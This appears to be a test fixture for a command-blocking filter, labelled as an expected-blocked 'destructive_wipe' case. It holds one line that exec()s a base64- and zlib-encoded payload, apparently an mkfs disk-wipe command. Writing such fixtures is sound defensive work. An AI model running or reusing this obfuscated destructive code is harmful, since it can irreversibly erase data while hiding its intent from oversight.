# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/mkfs.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxTVnDLL8pNLClWSFQoSCwqySzJzM/T48rMLcgvKlEoLk0qKMpPTi0u5uJCsPWSE3NyNJRys9OK9VIrSkwUdN0U9FNSy/SLUxINlXQUijNSc3JsQ4pKUzUBUJkg8Q==')))
